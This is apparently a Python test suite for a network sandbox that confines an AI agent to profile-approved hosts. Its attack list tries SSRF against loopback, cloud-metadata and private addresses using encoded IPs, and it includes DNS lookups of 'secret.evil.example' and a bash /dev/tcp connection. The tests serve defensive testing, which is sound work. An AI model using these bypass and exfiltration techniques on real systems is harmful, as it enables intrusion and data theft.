#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""
An agent in a cell with `network = allow`, on a small Internet: it reaches what the profile names,
and nothing else. Each attack works without the cell.
"""

import errno
import json
import pathlib
import re
import shutil
import socket
import subprocess
import sys
import threading

import case
import internet
import processes

from acp import RpcError
from confinement import CONFINE, FSOPEN, become_user, refusing
from internet import (DATAGRAM_PORT, HERE, HERE_TOO, METADATA, OTHER_PORT, PRIVATE, PUBLIC,
                      STREAM_PORT, THERE, THERE6, WEB_PORT)
from sync_case import SyncCase
from test_confined import AGENT, BROKER, PROGRAMS

FOLDER = PROGRAMS / 'internet'
FOLDER.mkdir(mode=0o755)

OUTPUT = re.compile(r'^terminal/output -> (.*)$', re.M)

# Prints "reached" and the bytes that it received, or why it failed. The first word is the way.
TRY = r"""
import os, socket, struct, sys

def heard(s):
    s.settimeout(20)
    data = s.recv(100)
    return 'reached ' + data.decode().strip() if data else 'closed'

def proxy(rest, size):
    s = socket.create_connection(('198.18.0.1', 3128), 20)
    s.settimeout(20)
    s.sendall(rest)
    return s

def tcp(host, port):
    return heard(socket.create_connection((host, int(port)), 20))

def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((host, int(port)))
    s.send(b'x')
    return heard(s)

def connect(host, port):
    if not os.environ.get('HTTPS_PROXY'):
        return tcp(host, port)
    return through('198.18.0.1', 3128, host, port)

def through(gate, gate_port, host, port):
    s = socket.create_connection((gate, int(gate_port)), 20)
    s.settimeout(20)
    s.sendall(f'CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}\r\n\r\n'.encode())
    answer = s.makefile('rb')
    status = answer.readline().split()[1].decode()
    while answer.readline().strip():
        pass
    return 'status ' + status if status != '200' else 'reached ' + answer.readline().decode()

def socks(host, port):
    if not os.environ.get('HTTPS_PROXY'):
        return tcp(host, port)
    s = socket.create_connection(('198.18.0.1', 3128), 20)
    s.settimeout(20)
    s.sendall(b'\5\1\0')
    answer = s.makefile('rb')
    assert answer.read(2) == b'\5\0'
    s.sendall(b'\5\1\0\3' + bytes([len(host)]) + host.encode() + struct.pack('>H', int(port)))
    status = answer.read(10)[1]
    return f'status {status}' if status else 'reached ' + answer.readline().decode()

def request(host, port):
    if not os.environ.get('HTTPS_PROXY'):
        return tcp(host, port)
    s = socket.create_connection(('198.18.0.1', 3128), 20)
    s.settimeout(20)
    s.sendall(f'GET http://{host}:{port}/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n'.encode())
    said = s.makefile('rb').readline().decode()
    return 'reached ' + said if said.startswith('HELLO') else said

def name(server, asked, kind='1'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(20)
    s.connect((server, 53))
    labels = b''.join(bytes([len(x)]) + x.encode() for x in asked.split('.'))
    s.send(struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + labels +
           struct.pack('>BHH', 0, int(kind), 1))
    answer = s.recv(600)
    return f'code {answer[3] & 15} answers {answer[7]}'

try:
    print(globals()[sys.argv[1]](*sys.argv[2:]))
except OSError as failed:
    print('error', failed.errno, failed)
"""


class NetworkCase(SyncCase):
    servers = ()  # MCP servers of each session

    def setUp(self):
        super().setUp()
        (self.work / 'try.py').write_text(TRY)
        self.heard = len(self.log())
        listener = socket.create_server(('0.0.0.0', 0))
        self.port = listener.getsockname()[1]
        self.addCleanup(listener.close)
        self.addCleanup(lambda: listener.shutdown(socket.SHUT_RDWR))
        threading.Thread(target=self.serve, args=(listener,), daemon=True).start()

    def serve(self, listener):
        """A service on this machine."""
        try:
            while True:
                client, _ = listener.accept()
                client.sendall(b'HELLO service\n')
                client.close()
        except OSError:
            pass

    def log(self):
        return (FOLDER / 'log').read_text().splitlines()

    def arrived(self):
        """What the far side has received in this test."""
        return self.log()[self.heard:]

    def broker_argv(self, *options, agent):
        return [*getattr(self, 'wrapper', ()), BROKER, *options, '--', *agent]

    def allowing(self, confine=CONFINE, network='allow', agent=AGENT, **keys):
        audit = self.dir / 'audit'
        options = self.config(confine=confine, allow_read=str(PROGRAMS), network=network, **keys)
        path = pathlib.Path(options[1])
        path.write_text(f'[broker]\n\taudit = {audit}\n' + path.read_text())
        client = self.broker(options=options, agent=[agent])
        client.initialize()
        return client, client.new_session(self.work, mcpServers=self.servers)

    def audited(self):
        lines = [json.loads(line) for line in (self.dir / 'audit').read_text().splitlines()]
        return [(line['subject'], line['way'], line['rule'], line['decision'], line.get('result'))
                for line in lines if line['operation'] == 'network/connect']

    def try_all(self, client, session, *tries):
        """Runs all tries in one terminal; returns one line for each."""
        said = self.shell(client, session, '; '.join(f'python3 try.py {each}' for each in tries))
        found = [line for line in said.splitlines() if line]
        self.assertEqual(len(found), len(tries), said)
        return found

    def shell(self, client, session, line):
        """Runs the line in a terminal of the agent; returns its output."""
        before = len(client.texts(session))
        client.prompt(session, f'terminal {line}')
        said = '\n'.join(client.texts(session)[before:])
        return json.loads(OUTPUT.search(said)[1])['output']

    def outside(self, words):
        """Runs a try without a cell."""
        done = subprocess.run(['python3', str(self.work / 'try.py'), *words.split()],
                              env=self.environment(), capture_output=True, text=True, check=True)
        return done.stdout.strip()

    def ended(self, client):
        return [text for text in self.notices(client) if 'refused from now on' in text]

    def ends(self, client):
        client.close_stdin()
        self.assertEqual(client.wait(), 0, client.stderr)
        self.assert_nothing_runs()


class ConfinedNetwork(NetworkCase):
    # ---- what can be reached ----

    def test_what_the_profile_names_is_reached_by_every_way(self):
        client, session = self.allowing(
            allow_host=[f'allowed.example:{STREAM_PORT}', '*.below.example'])
        said = self.try_all(
            client, session, f'tcp allowed.example {STREAM_PORT}',
            f'connect allowed.example {STREAM_PORT}', f'socks a.below.example {OTHER_PORT}',
            f'tcp allowed.example {OTHER_PORT}', f'tcp below.example {STREAM_PORT}',
            f'connect other.example {STREAM_PORT}', f'socks other.example {STREAM_PORT}')
        self.assertEqual(said[:3], [f'reached HELLO {PUBLIC}'] * 3)
        for each in said[3:]:
            self.assertNotIn('reached', each)
        names = {line.split()[1] for line in self.arrived() if line.startswith('name')}
        self.assertEqual(names, {'allowed.example', 'a.below.example'})
        rule = f'allow-host = allowed.example:{STREAM_PORT}'
        self.assertEqual(self.audited()[:4], [
            (f'allowed.example:{STREAM_PORT}', 'socket', rule, 'allow-once', 'connected'),
            (f'allowed.example:{STREAM_PORT}', 'connect', rule, 'allow-once', 'connected'),
            (f'a.below.example:{OTHER_PORT}', 'socks', 'allow-host = *.below.example',
             'allow-once', 'connected'),
            (f'allowed.example:{OTHER_PORT}', 'socket', 'network = allow', 'reject-once', None)])
        self.assertIn(f'allow-host = other.example:{STREAM_PORT}', '\n'.join(self.notices(client)))
        self.ends(client)

    def test_networks_are_reached_and_their_names(self):
        client, session = self.allowing(allow_cidr=['10.99.0.0/16'], allow_host='private.example')
        said = self.try_all(client, session, f'tcp {PRIVATE} {STREAM_PORT}',
                            f'tcp private.example {STREAM_PORT}', f'tcp {PUBLIC} {STREAM_PORT}')
        self.assertEqual(said[:2], [f'reached HELLO {PRIVATE}'] * 2)
        self.assertNotIn('reached', said[2])
        self.ends(client)

    def test_a_network_does_not_open_this_machine(self):
        """The network has two addresses of this machine; neither can be reached."""
        attacks = [f'tcp {address} {self.port}' for address in (HERE, HERE_TOO)]
        attacks += [f'connect {name}.example {self.port}' for name in ('here', 'here-too')]
        for words in attacks:
            self.assertEqual(self.outside(words), 'reached HELLO service')
        names = ['here.example', 'here-too.example']
        client, session = self.allowing(allow_cidr='10.77.0.0/24', allow_host=names)
        said = self.try_all(client, session, f'tcp {THERE} {STREAM_PORT}', *attacks)
        self.assertEqual(said[0], f'reached HELLO {THERE}')
        for words, each in zip(attacks, said[1:]):
            self.assertNotIn('reached', each, words)
        self.ends(client)
        client, session = self.allowing(allow_cidr=f'{HERE_TOO}/32')
        said = self.try_all(client, session, *attacks[:2])
        self.assertNotIn('reached', said[0])
        self.assertEqual(said[1], 'reached HELLO service')
        self.ends(client)

    def test_a_service_of_this_machine_is_reached_by_one_line(self):
        client, session = self.allowing(allow_host=f'localhost:{self.port}')
        said = self.try_all(client, session, f'tcp 127.0.0.1 {self.port}',
                            f'tcp localhost {self.port}', f'connect localhost {self.port}',
                            f'tcp 127.0.0.1 {self.port ^ 1}', f'tcp {HERE} {self.port}')
        self.assertEqual(said[:3], ['reached HELLO service'] * 3)
        for each in said[3:]:
            self.assertNotIn('reached', each)
        self.assertEqual(self.audited()[0], (f'localhost:{self.port}', 'socket',
                         f'allow-host = localhost:{self.port}', 'allow-once', 'connected'))
        self.ends(client)

    def test_an_mcp_server_of_this_machine_is_passed_on_by_the_same_line(self):
        client, _ = self.allowing(allow_host=f'localhost:{self.port}')
        servers = [{'type': 'http', 'name': f'server-{port}', 'headers': [],
                    'url': f'http://localhost:{port}/mcp'} for port in (self.port, self.port ^ 1)]
        client.new_session(self.work, mcpServers=servers)
        self.assertTrue(processes.wait_until(lambda: self.notices(client)))
        told = '\n'.join(self.notices(client))
        self.assertIn(f'server-{self.port ^ 1}', told)
        self.assertIn(f'allow-host = localhost:{self.port ^ 1}', told)
        self.assertNotIn(f'server-{self.port}"', told)
        self.ends(client)

    # ---- plain HTTP ----

    def test_a_plain_request_by_the_proxy_is_relayed(self):
        client, session = self.allowing(allow_host=f'allowed.example:{WEB_PORT}')
        url = f'http://allowed.example:{WEB_PORT}'
        curl = 'curl -sS -x "$HTTPS_PROXY" -w "%{http_code} "'
        said = self.shell(client, session, f'{curl} -d hello -H "TE: trailers" '
                          f'-H "Proxy-Authorization: x" -H "Authorization: y" {url}/a?b; '
                          f'{curl} -o /dev/null -o /dev/null {url}/1 {url}/2; '
                          f'{curl} http://other.example/')
        lines = said.splitlines()
        self.assertEqual(lines[0], 'POST /a?b HTTP/1.1')
        self.assertIn(f'Host: allowed.example:{WEB_PORT}', lines)
        self.assertIn('Connection: close', lines)
        self.assertIn('Authorization: y', lines)
        self.assertNotRegex(said, '(?i)^(te|proxy-.*):')
        self.assertIn('hello200 200 200 ', said)
        self.assertTrue(said.rstrip().endswith('403'), said)
        self.assertEqual([line for line in self.arrived() if line.startswith('web')], [
            'web POST /a?b HTTP/1.1', 'web GET /1 HTTP/1.1', 'web GET /2 HTTP/1.1'])
        rule = f'allow-host = allowed.example:{WEB_PORT}'
        place = (f'allowed.example:{WEB_PORT}', 'request', rule, 'allow-once', 'connected')
        self.assertEqual(self.audited(), [place] * 3 + [
            ('other.example:80', 'request', 'network = allow', 'reject-once', None)])
        self.ends(client)

    def test_programs_that_use_https_proxy_for_http_work(self):
        client, session = self.allowing(allow_host=f'packages.example:{WEB_PORT}')
        said = self.shell(client, session, 'npm install --no-audit --no-fund --registry='
                          f'http://packages.example:{WEB_PORT} small 2>&1; '
                          'cat node_modules/small/package.json')
        self.assertIn('"name": "small"', said)
        self.assertIn('web GET /small/-/small-1.0.0.tgz HTTP/1.1', self.arrived())
        self.ends(client)

    # ---- what cannot be reached ----

    def test_attacks(self):
        attacks = [
            f'tcp {PUBLIC} {STREAM_PORT}', f'tcp {METADATA} {STREAM_PORT}',
            f'tcp {PRIVATE} {STREAM_PORT}', f'tcp 127.0.0.1 {self.port}',
            f'tcp 127.1 {self.port}', f'tcp 0.0.0.0 {self.port}', f'tcp 2130706433 {self.port}',
            f'tcp ::ffff:127.0.0.1 {self.port}', f'tcp ::ffff:{PUBLIC} {STREAM_PORT}',
            f'socks 2130706433 {self.port}', f'socks 0x7f000001 {self.port}',
            f'tcp {HERE} {self.port}', f'tcp {THERE6} {STREAM_PORT}',
            f'udp {PUBLIC} {DATAGRAM_PORT}', f'tcp loopback.example {self.port}',
            f'tcp here.example {self.port}', f'tcp metadata.example {STREAM_PORT}',
            f'tcp private.example {STREAM_PORT}', f'connect loopback.example {self.port}',
            f'connect 127.0.0.1 {self.port}', f'connect localhost {self.port}',
            f'connect {METADATA} {STREAM_PORT}', f'connect metadata.example {STREAM_PORT}',
            f'request loopback.example {self.port}', f'request 127.0.0.1 {self.port}',
            f'request localhost {self.port}', f'request {METADATA} {STREAM_PORT}',
            f'request metadata.example {STREAM_PORT}', f'request {PUBLIC} {STREAM_PORT}',
            f'request private.example {STREAM_PORT}', f'request here.example {self.port}',
            f'socks loopback.example {self.port}', f'socks 127.0.0.1 {self.port}',
            f'socks 127.1 {self.port}', f'socks here.example {self.port}',
            f'name {THERE} secret.evil.example', f'name {THERE} secret.evil.example 16']
        for words in attacks:
            said = self.outside(words)
            self.assertTrue(said.startswith(('reached', 'code 0')), f'{words}: {said}')
        self.assertIn('name secret.evil.example 16', self.arrived())
        client, session = self.allowing(allow_host=[
            'loopback.example', 'here.example', 'metadata.example', 'private.example'])
        self.heard = len(self.log())
        said = self.try_all(client, session, *attacks)
        for words, each in zip(attacks, said):
            self.assertNotIn('reached', each, words)
        # The refusal comes at once: programs try QUIC before TCP, and would wait seconds for it.
        datagram = said[attacks.index(f'udp {PUBLIC} {DATAGRAM_PORT}')]
        self.assertIn(f'error {errno.ECONNREFUSED}', datagram)
        self.assertIn('answers 0', said[-1])
        for line in self.arrived():  # only names that the profile allows
            self.assertRegex(line, r'\Aname (loopback|here|metadata|private)\.example \d+\Z')
        self.ends(client)

    # ---- the agent's files, and the process that connects ----

    def test_the_agent_has_the_variables_and_the_files(self):
        client, session = self.allowing(allow_host='allowed.example')
        said = self.shell(client, session, 'echo "<$HTTPS_PROXY><$HTTP_PROXY>"; '
                          'cat /etc/resolv.conf /etc/hosts; grep hosts: /etc/nsswitch.conf')
        self.assertEqual(said.splitlines(), [
            '<http://198.18.0.1:3128><>', 'nameserver 198.18.0.1', 'options ndots:1',
            '127.0.0.1 localhost', 'hosts: files dns'])
        self.ends(client)

    def test_what_is_refused_before_a_session_is_logged(self):
        early = '"bash -c \'read x </dev/tcp/early.example/80\'; true"'
        client, _ = self.allowing(allow_host='allowed.example', setup=early)
        client.wait_log('early.example:80 | allow-host = early.example:80')
        self.ends(client)

    def test_its_end_is_told_once_and_opens_nothing(self):
        client, session = self.allowing(allow_host='allowed.example')
        self.assertEqual(self.try_all(client, session, f'tcp allowed.example {STREAM_PORT}'),
                         [f'reached HELLO {PUBLIC}'])
        for pid in relays(client.pid):
            processes.kill(pid)
        self.assertTrue(processes.wait_until(lambda: self.ended(client)))
        said = self.try_all(client, session, f'tcp allowed.example {STREAM_PORT}',
                            f'tcp {PUBLIC} {STREAM_PORT}', f'connect {PUBLIC} {STREAM_PORT}')
        for each in said:
            self.assertNotIn('reached', each)
        self.assertEqual(len(self.ended(client)), 1)
        self.assertEqual(relays(client.pid), [])
        self.ends(client)

    def test_where_it_cannot_be_enforced_no_agent_starts(self):
        self.wrapper = refusing(FSOPEN, errno.EPERM)
        for confine in ('yes', 'required'):
            with self.assertRaises(RpcError) as caught:
                self.allowing(confine=confine, allow_host='allowed.example')
            self.assertEqual(caught.exception.data['code'], 'CELL_UNAVAILABLE')


def relays(broker):
    """The processes below a broker that connect the cell."""
    return [pid for pid in processes.descendants(broker)
            if b'--acp-broker-relay' in processes.read_file(f'/proc/{pid}/cmdline')]


if __name__ == '__main__':
    try:
        internet.enter(FOLDER)
    except OSError as forbidden:
        print(f'no network namespace can be made: {forbidden}')
        print('cases: 0 passed, 0 failed, 1 skipped')
        shutil.rmtree(PROGRAMS)
        sys.exit(0)
    become_user(PROGRAMS)
    case.main()
